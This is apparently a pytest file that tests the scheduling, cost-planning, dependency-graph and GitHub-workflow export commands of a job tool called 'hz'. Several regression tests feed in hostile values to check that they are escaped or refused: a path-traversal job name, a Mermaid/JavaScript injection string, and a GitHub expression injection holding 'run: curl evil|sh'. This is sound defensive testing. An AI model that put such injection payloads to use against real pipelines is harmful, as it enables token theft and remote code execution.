"""hz schedules list|pause|resume, hz plan, hz graph and the compile checks over chained
contracts, in process (the commands' words and exit codes)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Cli, CliResult
from tests.helpers.chains import CHAIN, chained, write_project
from tests.helpers.ledger_cli import echo_space, poke

AT = "2026-12-02T09:00:30Z"
SCHEDULED = {
    "minutely": chained("minutely", schedule='"* * * * *"', max_usd=0.25),
    "berlin": chained(
        "berlin", schedule="{cron: '30 2 * * *', timezone: Europe/Berlin}", max_usd=2
    ),
    "weekly": chained("weekly", schedule='"0 7 * * MON"', max_usd=1.5),
    "follower": chained("follower", after=("weekly",)),
}


def compiled(hz: Cli, tmp_path: Path, contracts: dict[str, str]) -> None:
    write_project(tmp_path, contracts)
    done: CliResult = hz("compile", "contracts", "--out", "build/jobs")
    assert done.returncode == 0, done.stderr


def test_schedules_list_pause_and_resume(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, SCHEDULED)
    listed = hz("schedules", "list", "--at", AT)
    assert listed.stdout == (
        "berlin: 30 2 * * * (Europe/Berlin, catch_up latest)\n"
        "  next: 2026-12-03T01:30:00Z, 2026-12-04T01:30:00Z, 2026-12-05T01:30:00Z\n"
        "  last: never fired\n"
        "minutely: * * * * * (UTC, catch_up latest)\n"
        "  next: 2026-12-02T09:01:00Z, 2026-12-02T09:02:00Z, 2026-12-02T09:03:00Z\n"
        "  last: never fired\n"
        "weekly: 0 7 * * MON (UTC, catch_up latest)\n"
        "  next: 2026-12-07T07:00:00Z, 2026-12-14T07:00:00Z, 2026-12-21T07:00:00Z\n"
        "  last: never fired\n"
    )
    paused = hz("schedules", "pause", "weekly")
    assert (paused.returncode, paused.stdout) == (
        0,
        "weekly: paused; its slots do not fire until hz schedules resume\n",
    )
    assert hz("schedules", "pause", "weekly").stdout == "weekly: already paused\n"
    shown = json.loads(hz("schedules", "list", "--at", AT, "--format", "json").stdout)
    assert [(s["job"], s["paused"]) for s in shown["schedules"]] == [
        ("berlin", False),
        ("minutely", False),
        ("weekly", True),
    ]
    assert shown["schedules"][2] == {
        "job": "weekly",
        "cron": "0 7 * * MON",
        "timezone": "UTC",
        "catch_up": "latest",
        "jitter_seconds": 0,
        "paused": True,
        "next": ["2026-12-07T07:00:00Z", "2026-12-14T07:00:00Z", "2026-12-21T07:00:00Z"],
        "last": None,
    }
    # A slot's run, as a worker would queue it (the worker's keys are refused to hz submit):
    # the newest fired slot is listed with its run.
    key = "schedule:minutely:2026-12-02T09:00:00Z"
    queued = hz("submit", "build/jobs/minutely.job.json", "--request-key", "slot")
    assert queued.returncode == 0, queued.stderr
    run_id = queued.stdout.strip()
    poke(tmp_path, "UPDATE runs SET request_key = ? WHERE id = ?", (key, run_id))
    listed = hz("schedules", "list", "--at", AT)
    assert f"  last: 2026-12-02T09:00:00Z {run_id} queued\n" in listed.stdout
    resumed = hz("schedules", "resume", "weekly")
    assert resumed.stdout == "weekly: resumed; slots from now on fire (missed ones do not)\n"
    unknown = hz("schedules", "pause", "weekley")
    assert (unknown.returncode, unknown.stderr) == (
        2,
        "hz: error: no scheduled job 'weekley' in build/jobs (did you mean 'weekly'?)\n"
        "  hint: hz schedules list shows the scheduled jobs\n",
    )


def test_plan_figures_from_a_fixture_ledger_and_fail_over(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path, "\n[system.budget]\nmax_usd_per_day = 20\n")
    compiled(hz, tmp_path, SCHEDULED)
    # Three completed runs of minutely (0.01, 0.03, 0.02: median 0.02), one of berlin (0.5).
    for name, cost in (("minutely", 0.01), ("minutely", 0.03), ("minutely", 0.02), ("berlin", 0.5)):
        ran = hz("run", f"build/jobs/{name}.job.json")
        assert ran.returncode == 0, ran.stderr
        poke(
            tmp_path,
            "UPDATE runs SET cost_usd = ? WHERE id = (SELECT id FROM runs ORDER BY created_at "
            "DESC LIMIT 1)",
            (cost,),
        )
    planned = hz("plan", "--at", AT)
    # 30 days from 09:00:30: 43200 minutes; 30 Berlin nights; Mondays 7, 14, 21, 28 Dec.
    assert (planned.returncode, planned.stdout) == (
        0,
        "job       slots  max_usd     ceiling  median  expected\n"
        "berlin       30    $2.00      $60.00   $0.50    $15.00\n"
        "minutely  43200    $0.25  $10,800.00   $0.02   $864.00\n"
        "weekly        4    $1.50       $6.00       -         -\n"
        "30 days from 2026-12-02T09:00:30Z: ceiling $10,866.00, expected $879.00 (jobs without "
        "runs: -)\n"
        "[system.budget] max_usd_per_day $20.00 x 30 = $600.00: the ceiling is over it\n",
    )
    over = hz("plan", "--at", AT, "--fail-over", "10000")
    assert over.returncode == 1
    assert over.stderr == (
        "hz: error: the 30-day ceiling $10,866.00 is over --fail-over $10,000.00\n"
    )
    document = json.loads(hz("plan", "--at", AT, "--format", "json").stdout)
    assert document["jobs"][1] == {
        "job": "minutely",
        "slots": 43200,
        "max_usd": 0.25,
        "ceiling_usd": 10800.0,
        "median_usd": 0.02,
        "completed_runs": 3,
        "costs_passed_over": 0,
        "expected_usd": 864.0,
    }
    assert (document["ceiling_usd"], document["budget_usd"], document["over"]) == (
        10866.0,
        600.0,
        False,
    )
    assert hz("plan", "--at", AT, "--fail-over", "20000").returncode == 0


def test_graph_mermaid_dot_text_and_json(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {**CHAIN, "d": chained("d", schedule='"0 7 * * MON"', after=("c",))})
    assert hz("graph", "--format", "mermaid").stdout == (
        "flowchart LR\n"
        '  n0["a"]\n'
        '  n1["b"]\n'
        '  n2["c"]\n'
        '  n3["d<br/>0 7 * * MON"]\n'
        "  n0 -->|after| n1\n"
        "  n1 -->|after| n2\n"
        "  n2 -->|after| n3\n"
    )
    assert hz("graph").stdout == "a -> b\nb -> c\nc -> d\nd [0 7 * * MON]\n"
    assert hz("graph", "--format", "dot").stdout.splitlines()[-3:] == [
        '  n1 -> n2 [label="after"];',
        '  n2 -> n3 [label="after"];',
        "}",
    ]
    edges = json.loads(hz("graph", "--format", "json").stdout)["edges"]
    assert edges[0] == {"from": "a", "to": "b", "kind": "after"}


def test_graph_ids_do_not_depend_on_names(cli: Cli, tmp_path: Path) -> None:
    """Attack on issue 26, hit 4: ``end``, ``click`` and ``style`` as node ids ended the
    flowchart or started directives; ``d-e`` and ``d_e`` were one node."""
    hz = echo_space(cli, tmp_path)
    contracts = {
        "end": chained("end", schedule='"0 0 29 2 SUN#5"'),
        "click": chained("click", after=("end",)),
        "style": chained("style", after=("click",)),
        "d-e": chained("d-e", after=("style",)),
    }
    compiled(hz, tmp_path, contracts)
    assert hz("graph", "--format", "mermaid").stdout == (
        "flowchart LR\n"
        '  n0["click"]\n'
        '  n1["d-e"]\n'
        '  n2["end<br/>0 0 29 2 SUN#35;5"]\n'
        '  n3["style"]\n'
        "  n0 -->|after| n3\n"
        "  n2 -->|after| n0\n"
        "  n3 -->|after| n1\n"
    )
    assert hz("graph", "--format", "dot").stdout.splitlines()[2:4] == [
        '  n0 [label="click"];',
        '  n1 [label="d-e"];',
    ]


def test_names_are_escaped_for_each_format() -> None:
    from hz.cli.graph import _dot, _mermaid
    from hz.cli.schedules import _cell

    hostile = 'evil"]\n  click evil "javascript:alert(1)" <b>|x\\\x1b'
    assert _mermaid(hostile) == (
        "evil#34;#93;#10;  click evil #34;javascript#58;alert#40;1#41;#34; #60;b#62;#124;x#92;#27;"
    )
    assert _dot(hostile) == r"evil\"]\\n  click evil \"javascript:alert(1)\" <b>|x\\\\x1b"
    assert _cell(hostile) == (
        "evil&quot;]&#92;n  click evil &quot;javascript:alert(1)&quot; &lt;b&gt;&#124;x"
        "&#92;&#92;x1b"
    )


def test_cycles_and_unknown_upstreams_are_compile_errors(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path)
    write_project(
        tmp_path,
        {
            "a": chained("a", after=("c",)),
            "b": chained("b", after=("a",)),
            "c": chained("c", after=("b", "zed")),
            "d": chained("d", reads="b-side"),
        },
    )
    done = hz("compile", "contracts", "--out", "build/jobs")
    assert done.returncode == 1
    cycle = "depends on itself: a <- c <- b <- a [HZ611]"
    hint = (
        "  hint: a job must not be queued by, or read the draft of, a job that depends on it: "
        "remove one link of the cycle\n"
    )
    assert done.stdout == (
        f"contracts/a.yaml:7:11: error: a {cycle}\n{hint}"
        f"contracts/b.yaml:7:11: error: b {cycle}\n{hint}"
        f"contracts/c.yaml:7:11: error: c {cycle}\n{hint}"
        "contracts/c.yaml:7:14: error: hz.after: no contract compiled with this one is named "
        "'zed' [HZ610]\n"
        "  hint: name the hz.name of a contract in the directories compiled together\n"
        "contracts/d.yaml:9:13: error: hz.inputs.upstream.read: no contract compiled with this "
        "one is named 'b-side' [HZ610]\n"
        "  hint: name the hz.name of a contract in the directories compiled together\n"
    )
    assert not (tmp_path / "build" / "jobs").exists()


def test_an_input_that_cannot_hold_the_upstream_draft(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path)
    write_project(
        tmp_path,
        {
            "rows": chained("rows", output="{format: json, schema: {type: array}}"),
            "text": chained("text"),
            "wants-object": chained("wants-object", reads="rows", schema="{type: object}"),
            "wants-number": chained("wants-number", reads="text", schema="{type: number}"),
            "takes-any": chained("takes-any", reads="rows", schema="{}"),
        },
    )
    done = hz("compile", "contracts", "--out", "build/jobs")
    assert done.returncode == 1
    assert done.stdout == (
        "contracts/wants-number.yaml:9:13: error: hz.inputs.upstream: text writes a markdown "
        "draft (a string), and the input's schema takes integer or number [HZ612]\n"
        "  hint: make the input's schema take what text writes, or change its output\n"
        "contracts/wants-object.yaml:9:13: error: hz.inputs.upstream: rows writes a JSON draft "
        "of type array, and the input's schema takes object [HZ612]\n"
        "  hint: make the input's schema take what rows writes, or change its output\n"
    )


def test_export_github_workflows_valid_against_schemastore(cli: Cli, tmp_path: Path) -> None:
    import subprocess
    import sys

    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, SCHEDULED)
    done = hz("schedules", "export", "--github", "--uses", "acme/hz@v0.1.0")
    assert (done.returncode, done.stdout, done.stderr) == (
        0,
        ".github/workflows/hz-minutely.yml\n.github/workflows/hz-weekly.yml\n",
        "hz: berlin: not exported: its schedule is in Europe/Berlin, and GitHub reads cron in "
        "UTC only\n",
    )
    weekly = (tmp_path / ".github" / "workflows" / "hz-weekly.yml").read_text()
    assert "  schedule:\n  - cron: 0 7 * * MON\n" in weekly
    assert "    - uses: acme/hz@v0.1.0\n      with:\n        jobs-dir: build/jobs\n" in weekly
    checker = Path(sys.executable).parent / "check-jsonschema"
    checked = subprocess.run(
        [str(checker), "--builtin-schema", "vendor.github-workflows"]
        + [str(p) for p in sorted((tmp_path / ".github" / "workflows").iterdir())],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    bad = hz("schedules", "export", "--github", "--uses", "not a ref")
    assert bad.returncode == 2
    assert "'not a ref' is not OWNER/REPO@REF" in bad.stderr


def test_explain_cron_lists_the_next_slots_in_utc_and_the_zone(cli: Cli) -> None:
    shown = cli(
        "explain", "--cron", "30 2 * * *", "--timezone", "Europe/Berlin",
        "--at", "2026-03-27T12:00:00Z",
    )  # fmt: skip
    assert shown.stdout == (
        "2026-03-28T01:30:00Z  2026-03-28 02:30 CET\n"
        "2026-03-29T01:30:00Z  2026-03-29 03:30 CEST\n"
        "2026-03-30T00:30:00Z  2026-03-30 02:30 CEST\n"
        "2026-03-31T00:30:00Z  2026-03-31 02:30 CEST\n"
        "2026-04-01T00:30:00Z  2026-04-01 02:30 CEST\n"
    )
    bad = cli("explain", "--cron", "0 7 * * MONDAY")
    assert (bad.returncode, bad.stderr) == (
        2,
        "hz: error: '0 7 * * MONDAY': the day of week field 'MONDAY' is not valid: not a value "
        "this field takes\n",
    )
    zone = cli("explain", "--cron", "0 7 * * MON", "--timezone", "Europe/Berln")
    assert zone.stderr == (
        "hz: error: unknown time zone 'Europe/Berln' (did you mean 'Europe/Berlin'?)\n"
    )


def test_validate_verbose_lists_the_next_slots(
    cli: Cli, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from datetime import UTC, datetime

    from hz.cli.validate import list_slots
    from hz.compiler.validate import validate_paths

    write_project(tmp_path, SCHEDULED)
    run = validate_paths([str(tmp_path / "contracts")])
    list_slots(run.contracts, datetime(2026, 12, 2, 9, 0, 30, tzinfo=UTC))
    assert capsys.readouterr().err == (
        "hz: berlin runs 30 2 * * * (Europe/Berlin, catch_up latest); next: "
        "2026-12-03T01:30:00Z, 2026-12-04T01:30:00Z, 2026-12-05T01:30:00Z\n"
        "hz: minutely runs * * * * * (UTC, catch_up latest); next: 2026-12-02T09:01:00Z, "
        "2026-12-02T09:02:00Z, 2026-12-02T09:03:00Z\n"
        "hz: weekly runs 0 7 * * MON (UTC, catch_up latest); next: 2026-12-07T07:00:00Z, "
        "2026-12-14T07:00:00Z, 2026-12-21T07:00:00Z\n"
    )
    verbose = cli("validate", "-v", str(tmp_path / "contracts"))
    assert verbose.returncode == 0
    assert verbose.stderr.count(" runs ") == 3


def test_a_job_file_with_a_cron_hz_cannot_read_is_refused(cli: Cli, tmp_path: Path) -> None:
    from hz.runtime.artifacts.canonical import canonical_json, digest_of

    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"weekly": SCHEDULED["weekly"]})
    path = tmp_path / "build" / "jobs" / "weekly.job.json"
    data = json.loads(path.read_text())
    data["schedule"]["cron"] = "0 7 * * FUNDAY"
    del data["digest"]
    data["digest"] = digest_of(data)  # made by hand, digest and all
    path.write_text(canonical_json(data))
    listed = hz("schedules", "list")
    assert listed.returncode == 2
    assert listed.stderr == (
        f"hz: error: {path.relative_to(tmp_path)}: invalid job: schedule: the day of week "
        "field 'FUNDAY' is not valid: not a value this field takes\n"
    )


def test_reading_an_upstream_draft_at_render_time(cli: Cli, tmp_path: Path) -> None:
    hz = echo_space(cli, tmp_path)
    contracts = {
        **CHAIN,
        "fresh": chained("fresh", reads="a", schema="{type: string}").replace(
            "      read: contract:a\n", "      read: contract:a#draft\n      max_age: 1h\n"
        ),
        "number": chained("number", reads="c", schema="{maxLength: 3}"),
    }
    compiled(hz, tmp_path, contracts)
    none = hz("render", "build/jobs/b.job.json", "--fetch")
    assert (none.returncode, none.stderr) == (
        1,
        "build/jobs/b.job.json:0:0: error: input 'upstream': contract:a: job a has no "
        "completed run in the ledger [HZ730]\n"
        "  hint: run a first, or queue this job after it (hz.after: [a])\n"
        "Found 1 error in 1 file (checked 1 file)\n",
    )
    assert hz("run", "build/jobs/a.job.json").returncode == 0
    [run_a] = [
        run["id"] for run in json.loads(hz("runs", "list", "--format", "json").stdout)["runs"]
    ]
    rendered = hz("render", "build/jobs/b.job.json", "--fetch", "-o", "b.packet.json")
    assert rendered.returncode == 0, rendered.stderr
    packet = json.loads((tmp_path / "b.packet.json").read_text())
    assert packet["inputs"] == {"upstream": "Say a."}
    source = packet["sources"]["upstream"]
    assert (source["provider"], source["job"], source["run"]) == ("ledger", "a", run_a)
    # Given by hand, the draft is not read: the packet says it was given.
    given = hz("render", "build/jobs/b.job.json", "--fetch", "--input", "upstream=x")
    assert json.loads(given.stdout)["sources"]["upstream"] == {
        "given": True,
        "sha256": json.loads(given.stdout)["sources"]["upstream"]["sha256"],
    }
    # An hour later the run is too old for max_age: 1h.
    poke(tmp_path, "UPDATE runs SET ended_at = ended_at - 7200")
    old = hz("render", "build/jobs/fresh.job.json", "--fetch")
    assert old.returncode == 1
    assert old.stderr.startswith(
        "build/jobs/fresh.job.json:0:0: error: input 'upstream': contract:a: the newest "
        f"completed run of a ({run_a}) ended 2h ago, older than the 1h max_age allows [HZ730]\n"
    )
    # A draft that fails the input's schema is not rendered either.
    hz("run", "build/jobs/c.job.json")
    wrong = hz("render", "build/jobs/number.job.json", "--fetch")
    assert wrong.returncode == 1
    assert "the draft of run run_" in wrong.stderr
    assert "fails the input's schema: 'Say c.' is too long [HZ730]\n" in wrong.stderr


LEAP = chained("leap", schedule='"0 0 29 2 SUN#5"', max_usd=0.25)


def test_a_rare_cron_and_the_end_of_the_calendar_are_said_not_crashed(
    cli: Cli, tmp_path: Path
) -> None:
    """Attack on issue 26, hits 1 and 11: each of these ended in exit 3."""
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"leap": LEAP})
    listed = hz("schedules", "list", "--at", "2032-03-01T00:00:00Z")
    assert (listed.returncode, listed.stdout) == (
        0,
        "leap: 0 0 29 2 SUN#5 (UTC, catch_up latest)\n"
        "  next: 2060-02-29T00:00:00Z, 2088-02-29T00:00:00Z, 2128-02-29T00:00:00Z\n"
        "  last: never fired\n",
    )
    late = hz("schedules", "list", "--at", "9999-12-31T23:59:00Z")
    assert (late.returncode, late.stdout.splitlines()[1]) == (
        0,
        "  next: none before the calendar ends (9999-12-31)",
    )
    explained = hz("explain", "--cron", "0 0 29 2 *", "--at", "9999-12-20T00:00:00Z")
    assert (explained.returncode, explained.stdout) == (
        0,
        "next slots: none before the calendar ends (9999-12-31)\n",
    )
    rare = hz("explain", "--cron", "0 0 29 2 SUN#5", "--at", "2033-01-01T00:00:00Z")
    assert rare.stdout.splitlines()[0] == "2060-02-29T00:00:00Z  2060-02-29 00:00 UTC"
    ahead = hz("explain", "--cron", "0 23 * * *", "--timezone", "Pacific/Kiritimati",
               "--at", "9999-12-30T00:00:00Z")  # fmt: skip
    assert ahead.stdout == (
        "9999-12-30T09:00:00Z  9999-12-30 23:00 +14\n9999-12-31T09:00:00Z  9999-12-31 23:00 +14\n"
    )
    planned = hz("plan", "--at", "2032-02-28T00:00:00Z")
    assert (planned.returncode, planned.stdout.splitlines()[1]) == (
        0,
        "leap      1    $0.25    $0.25       -         -",
    )
    end = hz("plan", "--at", "9999-12-20T00:00:00Z")
    assert (end.returncode, end.stderr.splitlines()[-1]) == (
        2,
        "Error: Invalid value for --at: the 30 days from 9999-12-20T00:00:00Z pass the end of "
        "the calendar (9999-12-31)",
    )


def forge(source: Path, target: Path, **fields: object) -> None:
    """A job file made by hand from a compiled one: ``fields`` changed, digest and all."""
    from hz.runtime.artifacts.canonical import canonical_json, digest_of

    data = json.loads(source.read_text())
    data.update(fields)
    del data["digest"]
    data["digest"] = digest_of(data)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(canonical_json(data))


NOT_A_NAME = (
    "is not a job name (a lowercase slug: letters, digits and single hyphens)\n"
    "  hint: compile the contracts again: hz compile contracts/ --out build/jobs\n"
)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("x/../../../../tmp/pwned", "'x/../../../../tmp/pwned'"),
        ("${{ github.token }}\nrun: curl evil|sh", "'${{ github.token }}\\nrun: curl evil|sh'"),
        ("\x1b[31mred\x07", "'\\x1b[31mred\\x07'"),
        ("end", None),  # a slug, and a Mermaid keyword: loaded (hz graph escapes it)
    ],
)
def test_a_job_file_whose_name_is_not_a_slug_is_refused(
    cli: Cli, tmp_path: Path, name: str, shown: str | None
) -> None:
    """Attack on issue 26, hit 3: export wrote outside --out and into the workflow's YAML and
    GitHub expressions from a hand-made job's name."""
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
    (tmp_path / "build" / "jobs" / "minutely.job.json").rename(tmp_path / "minutely.job.json")
    forge(tmp_path / "minutely.job.json", tmp_path / "hostile" / "one.job.json", name=name)
    for command in (
        ("schedules", "export", "--github", "--uses", "acme/hz@v1", "hostile", "--out", "gh"),
        ("schedules", "list", "hostile"),
        ("graph", "hostile"),
        ("plan", "hostile"),
    ):
        done = hz(*command)
        if shown is None:
            assert done.returncode == 0, done.stderr
            continue
        assert (done.returncode, done.stderr) == (
            2,
            f"hz: error: hostile/one.job.json: {shown} {NOT_A_NAME}",
        )
    assert not (tmp_path / "tmp").exists()
    written = sorted(p.name for p in (tmp_path / "gh").glob("*"))
    assert written == ([] if shown else ["hz-end.yml"])


def test_export_places_no_expression_from_a_title_and_refuses_a_directory_with_one(
    cli: Cli, tmp_path: Path
) -> None:
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
    job = tmp_path / "build" / "jobs" / "minutely.job.json"
    forge(job, job, title="${{ github.token }}\nrun: curl evil|sh")
    done = hz("schedules", "export", "--github", "--uses", "acme/hz@v1", "--out", "gh")
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "gh" / "hz-minutely.yml").read_text()
    assert text.count("${{") == 1  # the one hz writes: ${{ secrets.HZ_CONFIG }}
    assert "curl" not in text
    odd = tmp_path / "${{ github.token }}"
    odd.mkdir()
    forge(job, odd / "minutely.job.json")
    refused = hz("schedules", "export", "--github", "--uses", "acme/hz@v1", str(odd.name))
    assert (refused.returncode, refused.stderr.splitlines()[-1]) == (
        2,
        "Error: Invalid value for DIRECTORY: '${{ github.token }}': a directory to export from "
        "is a plain path (letters, digits and _ . @ + / -)",
    )


def test_two_job_files_of_one_name_and_a_cycle_are_refused(cli: Cli, tmp_path: Path) -> None:
    """Hits 10 and 9: a name counted once per file; two job files that follow each other ran
    after each other forever on the worker (the compiler's checks, redone on loading)."""
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
    job = tmp_path / "build" / "jobs" / "minutely.job.json"
    forge(job, tmp_path / "dup" / "minutely.job.json")
    forge(job, tmp_path / "dup" / "copy.job.json")
    for command in (("plan", "dup"), ("graph", "dup"), ("worker", "--schedules", "dup")):
        done = hz(*command)
        assert done.returncode == 2
        assert done.stderr.endswith(  # the worker says it started first
            "hz: error: dup/copy.job.json and dup/minutely.job.json are both job minutely "
            "[HZ601]\n  hint: two contracts with one name do not compile: keep one of the files\n",
        )
    forge(job, tmp_path / "cyc" / "ping.job.json", name="ping", after=["pong"])
    forge(job, tmp_path / "cyc" / "pong.job.json", name="pong", after=["ping"])
    forge(job, tmp_path / "lost" / "pong.job.json", name="pong", after=["ping"])
    for command in (("graph", "cyc"), ("worker", "--schedules", "cyc")):
        done = hz(*command)
        assert (done.returncode, done.stderr.splitlines()[-2]) == (
            2,
            "hz: error: job ping in cyc depends on itself: ping <- pong <- ping [HZ611]",
        )
    lost = hz("worker", "--schedules", "lost")
    assert (lost.returncode, lost.stderr.splitlines()[-2]) == (
        2,
        "hz: error: job pong follows or reads job ping, which is not in lost [HZ610]",
    )


def test_plan_passes_over_costs_that_are_not_amounts(cli: Cli, tmp_path: Path) -> None:
    """Attack on issue 26, hit 6: a text or blob cost ended in exit 3, 9e999 wrote Infinity
    into the JSON, a negative cost gave a negative expectation."""
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
    for cost in ("'abc'", "X'ff'", "9e999", "-1", "1e308", "0.02"):
        ran = hz("run", "build/jobs/minutely.job.json")
        assert ran.returncode == 0, ran.stderr
        poke(
            tmp_path,
            f"UPDATE runs SET cost_usd = {cost} WHERE id = (SELECT id FROM runs ORDER BY "
            "created_at DESC LIMIT 1)",
        )
    planned = hz("plan", "--at", AT)
    assert (planned.returncode, planned.stderr, planned.stdout.splitlines()[1]) == (
        0,
        "hz: plan: minutely: 5 recorded costs passed over (not a finite amount from $0 to "
        "$1,000,000,000: a damaged or hand-edited row)\n",
        "minutely  43200    $0.25  $10,800.00   $0.02   $864.00",
    )
    document = json.loads(hz("plan", "--at", AT, "--format", "json").stdout)
    assert (document["jobs"][0]["costs_passed_over"], document["expected_usd"]) == (5, 864.0)


@pytest.mark.parametrize("amount", ["nan", "inf", "-1", "1e400"])
def test_plan_refuses_a_fail_over_that_is_not_an_amount(
    cli: Cli, tmp_path: Path, amount: str
) -> None:
    """Hit 16: --fail-over nan never failed, and wrote NaN into the JSON."""
    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
    done = hz("plan", "--fail-over", amount)
    assert (done.returncode, done.stderr.splitlines()[-1]) == (
        2,
        f"Error: Invalid value for '--fail-over': {amount} is not a finite number, 0 or more",
    )


def test_a_follower_reads_the_draft_of_the_run_that_queued_it(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack on issue 26, hit 12: both followers of two upstream runs read the newest
    run's draft (key and provenance disagreed, the older draft was never processed)."""
    from hz.cli.schedules import firing_maker, load_jobs
    from hz.runtime.config.layers import load_config
    from hz.runtime.ledger.schedules import Firing
    from hz.runtime.ledger.store import Ledger, read_packet

    hz = echo_space(cli, tmp_path)
    compiled(hz, tmp_path, CHAIN)
    monkeypatch.setenv("HZ_CONFIG", str(tmp_path / "operator.toml"))
    monkeypatch.setenv("HZ_STATE_DIR", str(tmp_path / "s"))
    assert hz("run", "build/jobs/c.job.json").returncode == 0  # the ledger exists
    ledger = Ledger(tmp_path / "s" / "ledger.sqlite3")
    jobs = load_jobs(tmp_path / "build" / "jobs")
    notes: list[str] = []
    make = firing_maker(load_config(cwd=tmp_path), tmp_path, tmp_path / "build" / "jobs",
                        notes.append, ledger)  # fmt: skip
    worker = Firing(ledger, jobs, make, workdir=tmp_path)
    worker.look(schedules=False)  # b is first seen: a's later runs queue it
    for _ in range(2):
        assert hz("run", "build/jobs/a.job.json").returncode == 0
    ran = [row.id for row in ledger.newest_completed("a", 5)]
    assert len(ran) == 2
    queued = worker.look(schedules=False).queued
    assert sorted(key for key, _ in queued) == sorted(f"after:{run}:b" for run in ran)
    for key, run_id in queued:
        packet = read_packet(ledger.get(run_id))
        assert packet is not None
        assert packet.sources["upstream"].run == key.split(":")[1]
    assert notes == []
    ledger.close()
